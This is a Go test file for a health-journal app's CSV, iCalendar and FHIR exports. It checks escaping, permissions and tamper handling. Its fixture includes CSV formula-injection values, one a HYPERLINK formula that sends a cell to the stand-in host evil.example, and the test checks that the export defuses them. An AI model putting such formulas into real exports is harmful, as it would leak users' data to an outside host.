package cli

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/patient-companion/companion/data"
	"github.com/patient-companion/companion/data/datatest"
	"github.com/patient-companion/companion/sync/fhir"
	"github.com/patient-companion/companion/sync/fhir/fhirtest"
)

// exportFixture is the tamper fixture (something in every table) plus what the exports must
// escape: a formula-like symptom and note, a cancelled appointment, and an appointment whose
// text needs RFC 5545 escaping and folding. Wall-clock times are in Paris, so that a UTC
// conversion that was forgotten shows.
func exportFixture(t *testing.T) (*harness, []string) {
	t.Helper()
	h := newHarness(t)
	h.kr = &datatest.MemKeyring{}
	paris, err := time.LoadLocation("Europe/Paris")
	if err != nil {
		t.Fatal(err)
	}
	h.loc = paris
	h.now = time.Date(2026, 3, 10, 12, 0, 0, 0, time.UTC)
	meds := tamperFixture(t, h)
	h.ok("symptom", "add", "--name", `=HYPERLINK("http://evil.example/?"&A1,"click")`, "--severity", "2",
		"--at", "2026-03-08T07:00:00Z", "--note", "@SUM(1+1)")
	h.ok("symptom", "add", "--name", "+Dizzy", "--severity", "1", "--at", "2026-03-08T06:00:00Z", "--note", "-3 since yesterday")
	h.ok("appointment", "add", "--at", "2026-04-02T08:15:00+02:00", "--end", "2026-04-02T09:00:00+02:00",
		"--title", "Cardiology; echo, stress test — Dr. Müller, bring the previous ECG and the list of medicines",
		"--location", `Hôpital Saint-Louis, 1 av. Claude-Vellefaux\Paris`)
	p := &data.Profiles{Dir: h.dir, Keyring: h.kr, Now: func() time.Time { return h.now }, Location: h.loc}
	s := datatest.Open(t, p, "Mum", "")
	if _, err := s.UpsertPortalAppointment(context.Background(), "a-cancel", "1", data.Appointment{
		Title: "Physiotherapy", Status: "cancelled", Start: h.now.Add(96 * time.Hour), End: h.now.Add(97 * time.Hour),
		Description: "Line one\nLine two"}); err != nil {
		t.Fatal(err)
	}
	s.Close()
	return h, meds
}

// readCSV parses one exported file as a spreadsheet would, into rows keyed by header.
func readCSV(t *testing.T, path string) (header []string, rows []map[string]string) {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	if len(recs) == 0 {
		t.Fatalf("%s: no header row", path)
	}
	for _, r := range recs[1:] {
		m := map[string]string{}
		for i, h := range recs[0] {
			m[h] = r[i]
		}
		rows = append(rows, m)
	}
	return recs[0], rows
}

// asCells is what a list's JSON object must read as in CSV: null empty, numbers and booleans
// as written, text defused like csvCell (checked separately against a literal).
func asCells(t *testing.T, obj map[string]any) map[string]string {
	t.Helper()
	out := map[string]string{}
	for k, v := range obj {
		switch v := v.(type) {
		case nil:
			out[k] = ""
		case string:
			out[k] = csvCell(v)
		case bool:
			out[k] = strconv.FormatBool(v)
		case float64:
			out[k] = strconv.FormatFloat(v, 'f', -1, 64)
		default:
			t.Fatalf("field %s: unexpected JSON %T", k, v)
		}
	}
	return out
}

// sameRows compares CSV rows with a list's JSON, by id, every JSON field.
func sameRows(t *testing.T, file string, header []string, rows []map[string]string, list []map[string]any) {
	t.Helper()
	if len(rows) != len(list) {
		t.Fatalf("%s: %d rows, the list has %d", file, len(rows), len(list))
	}
	byID := map[string]map[string]string{}
	for _, r := range rows {
		byID[r["id"]] = r
	}
	for _, obj := range list {
		want := asCells(t, obj)
		got, ok := byID[want["id"]]
		if !ok {
			t.Fatalf("%s: no row for %s", file, want["id"])
		}
		for k, w := range want {
			if got[k] != w {
				t.Errorf("%s: %s.%s = %q, the list says %q", file, want["id"], k, got[k], w)
			}
		}
		if len(want) > len(header) {
			t.Errorf("%s: header %v lacks fields of %v", file, header, obj)
		}
	}
}

func TestExportCSV(t *testing.T) {
	h, meds := exportFixture(t)
	out := filepath.Join(t.TempDir(), "new", "csv")
	var res exportJSON
	h.jsonOK(&res, "export", "csv", "--out", out)
	if len(res.Files) != 5 || !strings.Contains(res.Note, "not encrypted") {
		t.Fatalf("output: %+v", res)
	}
	if fi, err := os.Stat(out); err != nil || fi.Mode().Perm() != 0o700 {
		t.Fatalf("the folder: %v %v, want mode 0700", fi.Mode(), err)
	}
	names := []string{}
	entries, _ := os.ReadDir(out)
	for _, e := range entries {
		names = append(names, e.Name())
		fi, _ := e.Info()
		if fi.Mode().Perm() != 0o600 {
			t.Errorf("%s: mode %v, want 0600", e.Name(), fi.Mode().Perm())
		}
	}
	sort.Strings(names)
	if strings.Join(names, " ") != "appointments.csv doses.csv entries.csv medicines.csv messages.csv" {
		t.Fatalf("files in the folder: %v (a temporary file left?)", names)
	}

	list := func(args ...string) []map[string]any {
		var v []map[string]any
		h.jsonOK(&v, args...)
		return v
	}
	hdr, rows := readCSV(t, filepath.Join(out, "entries.csv"))
	sameRows(t, "entries.csv", hdr, rows, list("journal", "list"))
	var doses []map[string]any
	for _, m := range meds {
		doses = append(doses, list("med", "log", m)...)
	}
	hdr, rows = readCSV(t, filepath.Join(out, "doses.csv"))
	sameRows(t, "doses.csv", hdr, rows, doses)
	hdr, rows = readCSV(t, filepath.Join(out, "medicines.csv"))
	sameRows(t, "medicines.csv", hdr, rows, list("med", "list"))
	hdr, rows = readCSV(t, filepath.Join(out, "appointments.csv"))
	sameRows(t, "appointments.csv", hdr, rows, list("appointment", "list"))
	hdr, msgRows := readCSV(t, filepath.Join(out, "messages.csv"))
	sameRows(t, "messages.csv", hdr, msgRows, list("note", "list"))
	senders := 0
	for _, r := range msgRows {
		if r["sender"] == "Nurse Patel" {
			senders++
		}
	}
	if senders != 2 {
		t.Errorf("messages.csv: %d rows from Nurse Patel, want 2", senders)
	}

	// Formula injection: the cells are shown as text, with the original after the quote.
	raw, _ := os.ReadFile(filepath.Join(out, "entries.csv"))
	_, rows = readCSV(t, filepath.Join(out, "entries.csv"))
	found := map[string]bool{}
	for _, r := range rows {
		for _, c := range []string{r["name"], r["note"]} {
			found[c] = true
		}
	}
	for _, want := range []string{`'=HYPERLINK("http://evil.example/?"&A1,"click")`, "'@SUM(1+1)", "'+Dizzy", "'-3 since yesterday"} {
		if !found[want] {
			t.Errorf("entries.csv has no cell %q:\n%s", want, raw)
		}
	}
	if !bytes.Contains(raw, []byte("\r\n")) || !strings.HasPrefix(string(raw), "id,kind,at,") {
		t.Errorf("entries.csv: want CRLF lines and a header row:\n%s", raw[:min(len(raw), 200)])
	}

	// A second export into the same folder replaces the five files and leaves others alone.
	mine := filepath.Join(out, "mine.txt")
	if err := os.WriteFile(mine, []byte("keep"), 0o600); err != nil {
		t.Fatal(err)
	}
	h.ok("symptom", "add", "--name", "Cough", "--severity", "3")
	h.ok("export", "csv", "--out", out)
	_, rows2 := readCSV(t, filepath.Join(out, "entries.csv"))
	if len(rows2) != len(rows)+1 {
		t.Errorf("after a second export: %d entries, want %d", len(rows2), len(rows)+1)
	}
	if b, err := os.ReadFile(mine); err != nil || string(b) != "keep" {
		t.Errorf("another file in the folder: %q %v", b, err)
	}
}

// icsLines checks the RFC 5545 line rules and returns the unfolded content lines.
func icsLines(t *testing.T, raw []byte) []string {
	t.Helper()
	s := string(raw)
	if !strings.HasSuffix(s, "\r\n") {
		t.Fatal("the calendar does not end in CRLF")
	}
	physical := strings.Split(strings.TrimSuffix(s, "\r\n"), "\r\n")
	var lines []string
	for i, l := range physical {
		if strings.ContainsAny(l, "\r\n") {
			t.Fatalf("line %d has a bare CR or LF: %q", i+1, l)
		}
		if len(l) > 75 {
			t.Errorf("line %d is %d octets, more than 75: %q", i+1, len(l), l)
		}
		if !strings.ContainsRune(l, '\uFFFD') && !utf8Valid(l) {
			t.Errorf("line %d is cut inside a UTF-8 character: %q", i+1, l)
		}
		if strings.HasPrefix(l, " ") {
			if len(lines) == 0 {
				t.Fatal("the calendar starts with a continuation line")
			}
			lines[len(lines)-1] += l[1:]
			continue
		}
		lines = append(lines, l)
	}
	return lines
}

func utf8Valid(s string) bool { return strings.ToValidUTF8(s, "\uFFFD") == s }

// unescapeText reverses RFC 5545 TEXT escaping.
func unescapeText(s string) string {
	r := strings.NewReplacer(`\\`, `\`, `\;`, ";", `\,`, ",", `\n`, "\n", `\N`, "\n")
	return r.Replace(s)
}

// scheduled leaves out the requests the clinic has not answered: they have no time yet, so
// the calendar leaves them out.
func scheduled(appts []appointmentJSON) []appointmentJSON {
	var out []appointmentJSON
	for _, a := range appts {
		if a.Status != "requested" {
			out = append(out, a)
		}
	}
	return out
}

func TestExportICS(t *testing.T) {
	h, _ := exportFixture(t)
	var appts []appointmentJSON
	h.jsonOK(&appts, "appointment", "list")
	appts = scheduled(appts)
	path := filepath.Join(t.TempDir(), "appointments.ics")
	h.ok("export", "ics", "--out", path)
	raw, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if fi, _ := os.Stat(path); fi.Mode().Perm() != 0o600 {
		t.Errorf("mode %v, want 0600", fi.Mode().Perm())
	}
	lines := icsLines(t, raw)
	if lines[0] != "BEGIN:VCALENDAR" || lines[len(lines)-1] != "END:VCALENDAR" || lines[1] != "VERSION:2.0" {
		t.Fatalf("not a VCALENDAR:\n%s", raw)
	}
	folded := bytes.Count(raw, []byte("\r\n ")) > 0
	if !folded {
		t.Errorf("no line was folded, though a title is longer than 75 octets")
	}
	var events []map[string]string
	var ev map[string]string
	for _, l := range lines {
		switch l {
		case "BEGIN:VEVENT":
			ev = map[string]string{}
			continue
		case "END:VEVENT":
			events = append(events, ev)
			ev = nil
			continue
		}
		if ev != nil {
			name, value, ok := strings.Cut(l, ":")
			if !ok || strings.Contains(name, ";") {
				t.Fatalf("bad property line %q (no parameters expected: times are UTC)", l)
			}
			ev[name] = value
		}
	}
	if len(events) != len(appts) {
		t.Fatalf("%d events, %d appointments", len(events), len(appts))
	}
	byUID := map[string]map[string]string{}
	for _, e := range events {
		for _, p := range []string{"UID", "DTSTAMP", "DTSTART", "SUMMARY", "STATUS"} {
			if e[p] == "" {
				t.Errorf("event without %s: %v", p, e)
			}
		}
		for _, p := range []string{"DTSTAMP", "DTSTART", "DTEND"} {
			if v, ok := e[p]; ok {
				if _, err := time.Parse("20060102T150405Z", v); err != nil {
					t.Errorf("%s %q is not a UTC date-time: %v", p, v, err)
				}
			}
		}
		byUID[e["UID"]] = e
	}
	cancelled := 0
	for _, a := range appts {
		e := byUID[a.ID+"@patient-companion"]
		if e == nil {
			t.Fatalf("no event for appointment %s", a.ID)
		}
		start, _ := time.Parse(time.RFC3339, a.Start)
		if e["DTSTART"] != start.UTC().Format("20060102T150405Z") {
			t.Errorf("%s: DTSTART %s, start %s", a.ID, e["DTSTART"], a.Start)
		}
		if a.End != nil {
			end, _ := time.Parse(time.RFC3339, *a.End)
			if e["DTEND"] != end.UTC().Format("20060102T150405Z") {
				t.Errorf("%s: DTEND %s, end %s", a.ID, e["DTEND"], *a.End)
			}
		}
		if got := unescapeText(e["SUMMARY"]); got != a.Title {
			t.Errorf("SUMMARY %q, title %q", got, a.Title)
		}
		if a.Location != nil && unescapeText(e["LOCATION"]) != *a.Location {
			t.Errorf("LOCATION %q, location %q", e["LOCATION"], *a.Location)
		}
		if a.Description != nil && unescapeText(e["DESCRIPTION"]) != *a.Description {
			t.Errorf("DESCRIPTION %q, description %q", e["DESCRIPTION"], *a.Description)
		}
		want := "CONFIRMED"
		if a.Status == "cancelled" {
			want = "CANCELLED"
			cancelled++
		}
		if e["STATUS"] != want {
			t.Errorf("%s (%s): STATUS %s, want %s", a.Title, a.Status, e["STATUS"], want)
		}
	}
	if cancelled != 1 {
		t.Errorf("%d cancelled appointments, want 1", cancelled)
	}
	if !bytes.Contains(raw, []byte(`Cardiology\; echo\, stress test`)) || !bytes.Contains(raw, []byte(`1 av. Claude-Vellefaux\\Paris`)) {
		t.Errorf("text not escaped per RFC 5545:\n%s", raw)
	}
}

func TestExportFHIRValidates(t *testing.T) {
	base := fhirtest.Start(t)
	h, meds := exportFixture(t)
	path := filepath.Join(t.TempDir(), "journal.fhir.json")
	h.ok("export", "fhir", "--out", path)
	raw, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var b struct {
		ResourceType, Type string
		Entry              []struct {
			FullURL  string          `json:"fullUrl"`
			Resource json.RawMessage `json:"resource"`
		}
	}
	if err := json.Unmarshal(raw, &b); err != nil {
		t.Fatal(err)
	}
	if b.ResourceType != "Bundle" || b.Type != "collection" {
		t.Fatalf("not a collection Bundle: %s %s", b.ResourceType, b.Type)
	}
	c, err := fhir.New(base)
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	count := map[string]int{}
	for _, e := range b.Entry {
		var r struct {
			ResourceType, ID string
		}
		if err := json.Unmarshal(e.Resource, &r); err != nil {
			t.Fatal(err)
		}
		if e.FullURL != "urn:uuid:"+r.ID {
			t.Errorf("fullUrl %s for id %s", e.FullURL, r.ID)
		}
		count[r.ResourceType]++
		// The engine's wrapper validates every write against the R4 definitions.
		if _, err := c.Create(ctx, r.ResourceType, e.Resource, ""); err != nil {
			t.Errorf("the engine refuses the %s: %v\n%s", r.ResourceType, err, e.Resource)
		}
	}
	if _, err := c.Create(ctx, "Bundle", raw, ""); err != nil {
		t.Errorf("the engine refuses the Bundle: %v", err)
	}

	// Each kind of record is there, as many as the lists show.
	var entries []entryJSON
	h.jsonOK(&entries, "journal", "list")
	kinds := map[string]int{}
	for _, e := range entries {
		kinds[e.Kind]++
	}
	var medList []medJSON
	h.jsonOK(&medList, "med", "list")
	var notes []noteJSON
	h.jsonOK(&notes, "note", "list")
	doses := 0
	for _, m := range meds {
		var log []doseJSON
		h.jsonOK(&log, "med", "log", m)
		doses += len(log)
	}
	want := map[string]int{
		"Patient": 1, "Observation": kinds["symptom"] + kinds["mood"], "MedicationStatement": len(medList),
		"MedicationAdministration": doses, "Communication": kinds["note"] + len(notes),
	}
	if fmt.Sprint(count) != fmt.Sprint(want) {
		t.Errorf("resources %v, want %v", count, want)
	}
}

func TestExportDamaged(t *testing.T) {
	h, _ := exportFixture(t)
	var entries []entryJSON
	h.jsonOK(&entries, "journal", "list")
	var appts []appointmentJSON
	h.jsonOK(&appts, "appointment", "list")
	var victim string
	for _, e := range entries {
		if e.Kind == "symptom" {
			victim = e.ID
			break
		}
	}
	j := datatest.OpenJournal(t, datatest.OnlyJournal(t, h.dir))
	j.FlipSealed("entries", victim)
	j.FlipSealed("appointments", appts[0].ID)
	j.Close()

	out := t.TempDir()
	for _, tc := range []struct {
		args []string
		file string
	}{
		{[]string{"export", "csv", "--out", filepath.Join(out, "csv")}, filepath.Join(out, "csv", "entries.csv")},
		{[]string{"export", "ics", "--out", filepath.Join(out, "a.ics")}, filepath.Join(out, "a.ics")},
		{[]string{"export", "fhir", "--out", filepath.Join(out, "f.json")}, filepath.Join(out, "f.json")},
	} {
		r := h.wantCode(ExitDamaged, tc.args...)
		if !strings.Contains(r.stderr, "exported everything else") || !strings.Contains(r.stderr, victim) && !strings.Contains(r.stderr, appts[0].ID) {
			t.Errorf("%v: stderr %q does not name the damage and say the rest was exported", tc.args, r.stderr)
		}
		if !strings.Contains(r.stdout, "wrote ") {
			t.Errorf("%v: stdout %q", tc.args, r.stdout)
		}
		raw, err := os.ReadFile(tc.file)
		if err != nil {
			t.Fatalf("%v: nothing written: %v", tc.args, err)
		}
		if bytes.Contains(raw, []byte(victim)) || bytes.Contains(raw, []byte(appts[0].ID)) {
			t.Errorf("%v: a damaged record was exported", tc.args)
		}
		if n := len(scheduled(appts)) - 1; tc.args[1] == "ics" && bytes.Count(raw, []byte("BEGIN:VEVENT")) != n {
			t.Errorf("ics: want the %d readable appointments", n)
		}
	}
	_, rows := readCSV(t, filepath.Join(out, "csv", "entries.csv"))
	if len(rows) != len(entries)-1 {
		t.Errorf("entries.csv: %d rows, want the %d readable ones", len(rows), len(entries)-1)
	}
}

func TestExportUsage(t *testing.T) {
	h := newHarness(t)
	h.kr = &datatest.MemKeyring{}
	h.ok("profile", "create", "Mum")
	file := filepath.Join(t.TempDir(), "f")
	if err := os.WriteFile(file, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{
		{"export"},
		{"export", "csv"},
		{"export", "ics", "--out", t.TempDir()},
		{"export", "fhir", "--out", filepath.Join(t.TempDir(), "missing", "f.json")},
		{"export", "csv", "--out", file},
		{"export", "csv", "--out", t.TempDir(), "extra"},
		{"export", "csv", "--out", filepath.Join(h.dir, "csv")}, // plain text beside the journal
		{"export", "ics", "--out", filepath.Join(h.dir, "a.ics")},
	} {
		h.wantCode(ExitUsage, args...)
	}
	if r := h.wantCode(ExitUsage, "export"); !strings.Contains(r.stderr, "csv") {
		t.Errorf("export alone: %q", r.stderr)
	}
	if out := h.ok("help", "export", "ics"); !strings.Contains(out, "not encrypted") {
		t.Errorf("help: %q", out)
	}
}

// TestTamperExports is the generic tamper test (tamper_test.go) for the exports: after any
// edit of one clear column, each export either reports damage (exit 5) or writes exactly
// the files it wrote before.
func TestTamperExports(t *testing.T) {
	h := newHarness(t)
	h.kr = &datatest.MemKeyring{}
	h.loc = time.UTC
	h.now = time.Date(2026, 3, 10, 12, 0, 0, 0, time.UTC)
	tamperFixture(t, h)
	outDir := t.TempDir()
	exports := []struct {
		args  []string
		files []string
	}{
		{[]string{"export", "csv", "--out", filepath.Join(outDir, "csv")},
			[]string{"csv/entries.csv", "csv/doses.csv", "csv/medicines.csv", "csv/appointments.csv", "csv/messages.csv"}},
		{[]string{"export", "ics", "--out", filepath.Join(outDir, "a.ics")}, []string{"a.ics"}},
		{[]string{"export", "fhir", "--out", filepath.Join(outDir, "f.json")}, []string{"f.json"}},
	}
	read := func(f string) string {
		b, err := os.ReadFile(filepath.Join(outDir, f))
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	before := map[string]string{}
	for _, e := range exports {
		h.ok(e.args...)
		for _, f := range e.files {
			before[f] = read(f)
		}
	}
	clean := h.dir
	tried, _ := eachEdit(t, clean, func(name, dir string) {
		for _, e := range exports {
			h.dir = dir
			r := h.run(e.args...)
			switch r.code {
			case ExitDamaged:
			case 0:
				for _, f := range e.files {
					if b := read(f); b != before[f] {
						t.Errorf("%s: %s changed without damage reported:\n%s", name, f, diffLines(before[f], b))
					}
				}
			default:
				t.Errorf("%s: %v: exit %d (%s), want 0 or 5", name, e.args[:2], r.code, strings.TrimSpace(r.stderr))
			}
			// The next edit starts from the clean files.
			h.dir = clean
			h.ok(e.args...)
		}
	})
	t.Logf("%d edits, %d exports each", tried, len(exports))
}
